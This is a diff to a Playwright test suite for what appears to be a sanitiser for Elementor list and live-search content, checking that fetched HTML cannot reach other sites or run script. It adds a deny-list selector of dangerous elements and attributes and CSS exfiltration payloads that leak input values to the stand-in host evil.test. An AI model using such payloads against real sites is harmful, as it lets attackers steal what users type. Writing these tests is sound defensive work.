@@ -1,3 +1,5 @@
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import type { Page, Route } from 'playwright/test'
 import { expect, test } from '../harness'
 import { loopsMounted } from '../loop/loop-site'
@@ -33,7 +35,12 @@ interface Site {
   files: string[]
 }
 /** A page at `/own/`, without a policy that would help, and files of the site. Records every request to other sites. */
-async function site(page: Page, body: string, files: (url: URL) => Parameters<Route['fulfill']>[0] | undefined): Promise<Site> {
+async function site(
+  page: Page,
+  body: string,
+  files: (url: URL) => Parameters<Route['fulfill']>[0] | undefined,
+  isReady: (page: Page) => Promise<unknown> = loopsMounted,
+): Promise<Site> {
   const asked: string[] = []
   const seen: string[] = []
   page.on('request', (request) => {
@@ -53,7 +60,7 @@ async function site(page: Page, body: string, files: (url: URL) => Parameters<Ro
   })
   await page.addInitScript(() => Object.assign(window, { xss: () => Object.assign(window, { hasRun: true }) }))
   await page.goto('/own/')
-  await loopsMounted(page)
+  await isReady(page)
   return { asked, files: seen }
 }
 const html = (body: string, headers = {}) => ({ contentType: 'text/html; charset=utf-8', headers, body })
@@ -112,13 +119,15 @@ test('a list takes only what is its own out of an answer', async ({ page, proble
         url.pathname === '/uploads/note' ? answer : undefined,
       )
       await page.getByRole('link', { name: 'More' }).click()
-      await expect.poll(problems).toEqual([expect.stringContaining('expected a page from')])
+      await expect.poll(problems).toEqual([expect.stringMatching(/expected (a page|an answer of this site) from/)])
       expect(files).toEqual(['/uploads/note'])
       await expect(page.locator('[data-loop-item]')).toHaveText(['1'])
     },
   )
 })
 
+const BAD =
+  'style,link:not(head>link),meta:not(head>*),base,object,embed,script:not(head>script),iframe[src],iframe[data-src],iframe[srcdoc],animate,set,use,[ping],[attributionsrc],[onerror],[onloadstart],[formaction],form[action]:not(.e-search-form),[href^=java i]'
 const next = (shape: 'hand' | 'builder', content: string) =>
   shape === 'hand'
     ? byHand(`<li data-loop-item class="added"><h2>two</h2>${content}</li>`, '')
@@ -161,9 +170,7 @@ test('nothing in a page that a list loads reaches another site, or the page arou
       await expect(page.locator('.added h2')).toHaveText('two')
       await page.locator('#ping').click()
       expect(asked).toEqual([])
-      const bad =
-        'style,link:not(head>link),meta:not(head>*),base,object,embed,script:not(head>script),iframe[src],iframe[data-src],iframe[srcdoc],animate,set,use,[ping],[attributionsrc],[onerror],[onloadstart],[formaction],form[action],[href^=java i]'
-      expect(await page.locator(bad).evaluateAll((all) => all.map((el) => el.outerHTML))).toEqual([])
+      expect(await page.locator(BAD).evaluateAll((all) => all.map((el) => el.outerHTML))).toEqual([])
       const inTemplate = await page.locator('template').evaluateAll((all) => all.map((el) => (el as HTMLTemplateElement).innerHTML).join())
       expect(inTemplate).not.toMatch(/onerror|<style/)
       expect(await page.evaluate(() => 'hasRun' in window)).toBe(false)
@@ -259,4 +266,65 @@ test('a filter’s address is on this site, whatever its attribute says', async 
   await expect(page.getByText('taken')).toBeVisible()
   expect(sent).toEqual([page.url()])
   expect(problems()).toEqual([])
+})
+
+const liveSearch = `<div class="elementor" data-elementor-id="5"><div class="elementor-element elementor-widget elementor-widget-search" data-id="se1" data-element_type="widget" data-widget_type="search.default" data-settings='{"live_results":"yes","minimum_search_characters":2}'><search class="e-search hidden"><form class="e-search-form" action="/own"><div class="e-search-input-wrapper"><input class="e-search-input" type="search" name="s"><div class="e-search-results-container"><div class="e-search-results"></div></div></div></form></search></div></div>`
+const searchMounted = (page: Page) => page.locator('search:not(.hidden)').waitFor()
+
+test('nothing in live results reaches another site, or the page around them', async ({ page, problems }) => {
+  const own = '<style id="loop-69">.found{color:rgb(0,128,0);background:url(/own/own.png)}</style>'
+  const leaks = ['url(//evil.test/a)', 'url("/\t/evil.test/b")', 'url(https:evil.test/c)', 'image-set("https://evil.test/d" 1x)'].map(
+    (image, i) => `<style id="loop-dynamic-${i}">html:has(input[value^=s3]) #bg{background:${image}}</style>`,
+  )
+  await page.route('**/refresh-search', (route) =>
+    route.fulfill({ json: { data: `<p class="found">Found</p>${own}${leaks.join('')}${HOSTILE}`, pagination: HOSTILE } }),
+  )
+  const { asked } = await site(page, liveSearch, () => text(''), searchMounted)
+  await page.getByRole('searchbox').fill('latarnia')
+  await expect(page.getByText('Found')).toHaveCSS('color', 'rgb(0, 128, 0)')
+  await settle(page)
+  await page.locator('#ping').first().click()
+  expect(asked).toEqual([])
+  expect(await page.locator(BAD).evaluateAll((all) => all.map((el) => el.outerHTML))).toEqual([own])
+  expect(await page.evaluate(() => 'hasRun' in window)).toBe(false)
+  expect(problems('ERR_UNKNOWN_URL_SCHEME')).toEqual([])
+})
+
+test('no answer of another site is shown, although the site leads there and that site allows it', async ({ page, problems, each }) => {
+  const data = '<div class="elementor-widget-container"><div class="elementor-loop-container"><p>Foreign</p></div></div>'
+  const other = createServer((_, answer) =>
+    answer
+      .writeHead(200, { 'content-type': 'application/json', 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' })
+      .end(JSON.stringify({ data })),
+  )
+  await new Promise<void>((done) => other.listen(0, done))
+  const location = `http://127.0.0.1:${(other.address() as AddressInfo).port}/json`
+  await each(
+    [302, 307].flatMap((status) => [
+      { status, what: 'a list', body: filter('/own/') + builders(item('one'), '', 'numbers') },
+      { status, what: 'live results', body: liveSearch },
+    ]),
+    ({ status, what }) => `no answer of another site is shown: ${what}, ${status}`,
+    async ({ status, what, body }) => {
+      await page.route('**/wp-json/**', (route) => route.fulfill({ status, headers: { location } }))
+      await site(page, body, () => undefined, what === 'a list' ? loopsMounted : searchMounted)
+      await (what === 'a list' ? page.getByRole('button', { name: 'a' }).click() : page.getByRole('searchbox').fill('latarnia'))
+      await expect.poll(() => problems('ERR_FAILED', 'CORS', 'Fetch API').join()).toMatch(/Skerry/)
+      await expect(page.getByText('Foreign')).toHaveCount(0)
+    },
+  )
+  other.close()
+})
+
+test('an uploaded file is no answer of the CMS’s route', async ({ page, problems }) => {
+  await page.route('**/wp-json/**', (route) =>
+    route.fulfill({
+      json: { data: '<div class="elementor-widget-container">taken</div>' },
+      headers: { 'content-disposition': 'attachment; filename=x.json' },
+    }),
+  )
+  await site(page, filter('/own/') + builders(item('one'), '', 'numbers'), () => undefined)
+  await page.getByRole('button', { name: 'a' }).click()
+  await expect.poll(() => problems().join()).toMatch(/got a file/)
+  await expect(page.locator('.e-loop-item h2')).toHaveText('one')
 })
